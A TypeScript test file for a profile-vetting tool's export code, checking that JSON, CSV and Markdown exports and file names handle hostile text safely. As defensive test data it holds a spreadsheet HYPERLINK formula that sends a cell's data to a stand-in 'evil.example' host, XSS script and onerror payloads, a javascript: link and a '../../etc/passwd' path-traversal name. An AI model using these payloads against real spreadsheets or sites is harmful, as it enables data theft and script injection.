import fc from 'fast-check';
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { buildBundle, ExportBundle, newestVersion } from '../../lib/export/bundle';
import { CSV_COLUMNS, csvRows, exportCsv, neutralizeCell, parseCsv, restoreCell } from '../../lib/export/csv';
import { renderExportSchema, SCHEMA_PATH } from '../../lib/export/docs';
import { exportJson, fileName, slug } from '../../lib/export/index';
import { exportMarkdown, mdLink, mdText, mdUnescape } from '../../lib/export/markdown';
import type { HistoryEntry } from '../../lib/history/schema';
import { cleanEntry, flaggedEntry, HOSTILE, hostileEntry } from './export-entries';

const NOW = new Date('2026-11-25T10:00:00.000Z');

describe('JSON bundle', () => {
  it('docs/export-schema.json is up to date (run `npm run docs:export` after changing the schema)', () => {
    expect(readFileSync(SCHEMA_PATH, 'utf8')).toBe(renderExportSchema());
  });

  it('validates against ExportBundle, carries the header and every entry', () => {
    const entries = [flaggedEntry(), cleanEntry()];
    const b = ExportBundle.parse(JSON.parse(exportJson(entries, { now: NOW, rulesetVersion: '9.9.9' })));
    expect(b).toMatchObject({ format: 'vetter-export', version: 1, exportedAt: NOW.toISOString(), rulesetVersion: '9.9.9', includesPhotoData: false });
    expect(b.appVersion).toMatch(/^\d+\.\d+\.\d+/);
    expect(b.entries.map((e) => e.identity.key)).toEqual(entries.map((e) => e.identity.key));
    // Findings keep evidence, indicator source and next step; manager input is there.
    expect(b.entries[0]!.report.findings).toEqual(entries[0]!.report.findings);
    expect(b.entries[0]!.dismissals).toEqual(entries[0]!.dismissals);
    expect(b.entries[0]!.notes).toEqual(entries[0]!.notes);
    expect(b.entries[1]!.verified).toEqual(entries[1]!.verified);
  });

  it('strips photo hashes unless the user opts in, keeps the photo URL, and leaves the input alone', () => {
    const e = flaggedEntry();
    const before = structuredClone(e);
    const stripped = buildBundle([e]).entries[0]!;
    expect(stripped.photo).toMatchObject({ url: e.photo!.url, kind: 'photo', phash: null, phashMirror: null, dhash: null, width: 100 });
    expect(stripped.photos.every((p) => p.phash === null && p.dhash === null && p.phashMirror === null)).toBe(true);
    expect(e).toEqual(before);
    const kept = buildBundle([e], { includePhotoData: true });
    expect(kept.includesPhotoData).toBe(true);
    expect(kept.entries[0]!.photo).toEqual(e.photo);
  });

  it('defaults the rule-set version to the newest among the reports', () => {
    expect(newestVersion(['0.2.0', '0.10.1', '0.9.9'])).toBe('0.10.1');
    expect(newestVersion([])).toBeNull();
    const e = flaggedEntry();
    const older = { ...cleanEntry(), report: { ...cleanEntry().report, rulesetVersion: '0.1.0' } };
    expect(buildBundle([older, e]).rulesetVersion).toBe(e.report.rulesetVersion);
    expect(buildBundle([]).rulesetVersion).toBe('unknown');
  });

  it('refuses to build from an invalid entry', () => {
    const bad = { ...flaggedEntry(), checks: 0 } as HistoryEntry;
    expect(() => buildBundle([bad])).toThrow(/checks/);
  });
});

describe('CSV', () => {
  it('one row per finding, a profile without findings gets one row, columns as documented', () => {
    const entries = [flaggedEntry(), cleanEntry()];
    const rows = csvRows(entries);
    const clean = entries[1]!.report.findings.length;
    expect(rows.length).toBe(entries[0]!.report.findings.length + Math.max(clean, 1));
    const f0 = entries[0]!.report.findings[0]!;
    expect(rows[0]).toMatchObject({
      profile: 'Daniel K.',
      site: 'Upwork',
      url: entries[0]!.identity.url,
      level: entries[0]!.report.level,
      category: f0.category,
      severity: f0.severity,
      title: f0.title,
      source: f0.indicator.source,
      'source url': f0.indicator.url,
      'next step': f0.nextStep,
      dismissed: 'yes',
      'dismissal note': 'Discussed on a video call; explained.',
      verified: 'no',
    });
    expect(rows[0]!.evidence).toBe(f0.evidence.map((x) => `${x.field}: ${x.excerpt}`).join('\n'));
    expect(rows[1]!.dismissed).toBe('no');
    expect(rows.at(-1)).toMatchObject({ profile: entries[1]!.identity.name, verified: 'yes', 'verification note': 'Met in person at the office.' });
  });

  it('papaparse reads back the same rows, with the apostrophe rule undone', () => {
    const entries = [flaggedEntry(), cleanEntry(), hostileEntry()];
    const csv = exportCsv(entries);
    expect(csv.startsWith('\ufeff')).toBe(true);
    expect(parseCsv(csv)).toEqual(csvRows(entries));
  });

  it('hostile text round-trips and no cell can start a formula', () => {
    const csv = exportCsv([hostileEntry()]);
    const raw = Papa.parse<string[]>(csv, { skipEmptyLines: true });
    expect(raw.errors).toEqual([]);
    const [header, ...body] = raw.data;
    expect(header).toEqual([...CSV_COLUMNS]);
    for (const row of body) {
      expect(row.length).toBe(CSV_COLUMNS.length);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    const titles = body.map((r) => r[CSV_COLUMNS.indexOf('title')]!);
    expect(titles).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(titles).toContain(`''quoted already`);
    const evidence = body.map((r) => r[CSV_COLUMNS.indexOf('evidence')]!);
    expect(evidence[0]).toContain('overview[8]: <script>alert(1)</script><img src=x onerror=alert(2)>');
    expect(evidence[0]).toContain('He said "hi", then left,\nnew line\r\nand CRLF');
    const back = parseCsv(csv);
    expect(back[0]!.profile).toBe(HOSTILE[0]);
    expect(back.map((r) => r.title)).toEqual(hostileEntry().report.findings.map((f) => f.title));
    expect(back[0]!['verification note']).toBe(HOSTILE[7]);
  });

  it('neutralize/restore are inverse for any string, and the result never starts a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const n = neutralizeCell(s);
        expect(restoreCell(n)).toBe(s);
        expect(n).not.toMatch(/^[=+\-@\t\r]/);
      }),
    );
    expect(neutralizeCell('-5')).toBe("'-5");
    expect(neutralizeCell('a=b')).toBe('a=b');
  });

  it('any text in any cell survives the CSV round trip', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), (texts) => {
        const e = flaggedEntry();
        const f = e.report.findings[0]!;
        const entry: HistoryEntry = { ...e, identity: { ...e.identity, name: texts[0]! }, report: { ...e.report, findings: [{ ...f, explanation: texts.join('\n'), nextStep: texts.at(-1) || 'x' }] } };
        expect(parseCsv(exportCsv([entry]))).toEqual(csvRows([entry]));
      }),
      { numRuns: 60 },
    );
  });

  it('parseCsv says clearly when a file is not a Vetter CSV', () => {
    expect(() => parseCsv('a,b\n1,2\n')).toThrow(/header/);
  });
});

/**
 * The text a Markdown renderer reads as literal runs: each escape sequence becomes a break (NUL), so patterns are
 * looked for within one unescaped run (":\\|//" renders as ":|//", which no renderer links; removing the escape
 * would glue "://" together).
 */
const unescapedPart = (s: string) => s.replace(/\\[!-/:-@[-`{-~]/g, '\u0000');

describe('Markdown', () => {
  it('mdText is one line of literal text: nothing left that could be markup, HTML or an auto-link', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'ab c1.:/@w<>[]()!*_`#&|~=+-\\\n\t"\'hpt'.split('')) }), (s) => {
        const out = mdText(s);
        expect(out).not.toMatch(/\n/);
        expect(mdUnescape(out)).toBe(s.replace(/\s+/g, ' ').trim());
        const bare = unescapedPart(out);
        expect(bare).not.toMatch(/[<>[\]`*_&|~\\]/);
        expect(bare).not.toMatch(/:\/\/|@|www\./i);
        // Nothing that starts a block (heading, list, quote, thematic break, setext underline) at the start.
        expect(mdText(s, true)).not.toMatch(/^(\d+[.)]|[#+=>-])/);
        expect(mdUnescape(mdText(s, true))).toBe(s.replace(/\s+/g, ' ').trim());
      }),
      { numRuns: 500 },
    );
  });

  it('links only http(s) URLs', () => {
    expect(mdLink('PSA', 'https://www.ic3.gov/PSA/2023/PSA231018')).toBe('[PSA](<https://www.ic3.gov/PSA/2023/PSA231018>)');
    expect(mdLink('x', 'javascript:alert(1)')).not.toMatch(/\]\(/);
    expect(mdLink('x', 'data:text/html,<b>')).not.toMatch(/\]\(|<b>/);
  });

  it('summarises each profile: level, why, findings with evidence, source, next step, dismissed and verified state, notes, footer', () => {
    const [flagged, clean] = [flaggedEntry(), cleanEntry()];
    const md = exportMarkdown([flagged, clean], { now: NOW });
    expect(md).toContain('2 profiles, exported 2026-11-25 10:00 UTC.');
    expect(md).toContain(`## Daniel K.: ${flagged.report.level.toUpperCase()}`);
    expect(md).toContain(mdText(flagged.report.levelReason));
    for (const f of flagged.report.findings) expect(md).toContain(`\n${mdText(f.explanation, true)}\n`);
    for (const f of flagged.report.findings) {
      expect(md).toContain(mdText(f.title));
      expect(md).toContain(`(<${f.indicator.url}>)`);
      expect(md).toContain(`Verify next: ${mdText(f.nextStep)}`);
      for (const ev of f.evidence) expect(md).toContain(mdText(ev.excerpt));
    }
    expect(md).toContain('Dismissed by the manager on 2026-11-21: Discussed on a video call; explained.');
    expect(md).toContain('Verified: yes, 2026-11-22: Met in person at the office.');
    expect(md).toContain('Verified: no');
    expect(md).toContain('Concern: Camera off');
    expect(md).toContain(`Shipping address: 12 Elm St, Springfield`);
    expect(md).toContain('triage aid, not a verdict');
    expect(md).toContain(`<${flagged.identity.url}>`);
  });

  it('hostile text stays text: no HTML, no links, no structure from page or note content', () => {
    const e = hostileEntry();
    const md = exportMarkdown([e], { now: NOW });
    expect(md).not.toMatch(/(?<!\\)<(script|img)/);
    expect(md).not.toMatch(/(?<!\\)\](\(javascript|\(http)/);
    expect(md).not.toMatch(/(?<!\\)\[click me/);
    expect(md).not.toMatch(/(?<!\\)http:\/\/evil/);
    expect(md).not.toMatch(/(?<!\\)bob@evil/);
    expect(md).not.toMatch(/(?<!\\)www\.evil/);
    expect(md).not.toMatch(/^(1\. not|- nor|> nor)/m);
    // Our own separators only: one per profile.
    expect(md.split('\n').filter((l) => l === '---').length).toBe(1);
    // Every link in the file is one of ours (indicator sources).
    const links = [...md.matchAll(/(?<!\\)\]\(<([^>]*)>\)/g)].map((m) => m[1]);
    expect(new Set(links)).toEqual(new Set(e.report.findings.map((f) => f.indicator.url)));
    // Nothing was lost: the text is there, escaped.
    for (const h of HOSTILE) expect(md).toContain(mdText(h));
  });
});

describe('file names', () => {
  it('names one profile by its name, several by their count, always with the date', () => {
    const e = flaggedEntry();
    expect(fileName('csv', [e], NOW)).toBe('vetter-daniel-k-2026-11-25.csv');
    expect(fileName('markdown', [e, cleanEntry()], NOW)).toBe('vetter-2-profiles-2026-11-25.md');
    expect(fileName('json', [{ identity: { ...e.identity, name: '../../etc/passwd <x>' } }], NOW)).toBe('vetter-etc-passwd-x-2026-11-25.json');
    expect(fileName('json', [{ identity: { ...e.identity, name: '金正' } }], NOW)).toBe(`vetter-${slug(e.identity.key)}-2026-11-25.json`);
    expect(slug('Zoë Ångström')).toBe('zoe-angstrom');
  });
});
